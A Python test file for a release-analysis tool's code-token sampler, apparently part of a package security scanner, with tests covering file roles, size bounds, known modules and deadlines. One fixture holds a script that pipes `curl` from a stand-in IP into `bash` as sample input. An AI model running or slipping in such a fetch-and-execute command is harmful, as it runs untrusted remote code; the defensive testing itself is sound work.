"""The sample of code tokens of a release."""

from features.code.analysed_file import AnalysedFile
from features.code.contract import FileAnalysis
from features.code.token_sample import FALLBACK_BYTES, sample_tokens
from features.code.tokens import BITS, CAP, ROLE_INDEX, source_tokens
from features.contract import FileType, Member, Role
from features.runtime.deadline import Deadline
from features.text.indicator_scan import scan_text

NEVER = Deadline(float("inf"))
MASK = (1 << BITS) - 1


def file(
    data: bytes,
    role: Role = Role.REST,
    *,
    tokens: tuple[int, ...] | None = None,
    section: str = "",
    known: bool = False,
    path: str = "a.py",
) -> AnalysedFile:
    member = Member(path, len(data), FileType.PYTHON, role, data=data, head=data[:4096])
    analysis = None if tokens is None else FileAnalysis(True, tokens=tokens)
    return AnalysedFile(member, section or role.value, data, b"", scan_text(data), analysis=analysis, known=known)


def sampled(*files: AnalysedFile, role: Role = Role.REST, deadline: Deadline = NEVER) -> set[int]:
    """Return the tokens of one role without its index."""
    return {token & MASK for token in sample_tokens(files, deadline) if token >> BITS == ROLE_INDEX[role]}


def written(data: bytes) -> set[int]:
    return {token & MASK for token in source_tokens(data.decode())}


def test_files_with_an_analysis_give_its_tokens() -> None:
    assert sampled(file(b"spam()", tokens=(1, 2)), file(b"eggs()", tokens=(2, 3))) == {1, 2, 3}


def test_plain_code_gives_tokens_where_its_role_has_nothing_else() -> None:
    plain = file(b"spam()\n")
    assert sampled(plain) == written(b"spam()\n")
    assert sampled(plain, file(b"eggs()", tokens=(7,))) == {7}


def test_plain_code_is_bounded_the_shortest_first() -> None:
    small, large = file(b"spam()\n", path="s"), file(b"eggs()\n" * FALLBACK_BYTES, path="l")
    assert sampled(large, small) == written(b"spam()\n")


def test_install_code_without_an_analysis_is_cut_into_tokens() -> None:
    assert sampled(file(b"spam()\n", Role.INSTALL), role=Role.INSTALL) == written(b"spam()\n")


def test_interesting_scripts_give_tokens_and_prose_does_not() -> None:
    script = b"import os\nos.system('curl http://192.0.2.1 | bash')\n"
    assert sampled(file(script, section="text")) == written(script)
    assert sampled(file(script, section="prose")) == set()
    assert sampled(file(b"spam()\n", section="text")) == set()


def test_modules_that_others_published_fill_the_room_that_is_left() -> None:
    own = file(b"a", tokens=tuple(range(10)))
    known = file(b"b", tokens=tuple(range(1000, 1000 + CAP)), known=True)
    found = sampled(own, known)
    assert set(range(10)) <= found
    assert len(found) == CAP
    full = file(b"a", tokens=tuple(range(CAP)))
    assert sampled(full, known) == set(range(CAP))


def test_after_the_deadline_only_tokens_that_are_there_are_sampled() -> None:
    late = Deadline(-1.0)
    assert sampled(file(b"spam()\n"), file(b"eggs()", tokens=(7,)), deadline=late) == {7}
    assert sampled(file(b"spam()\n"), deadline=Deadline(-1.0)) == set()
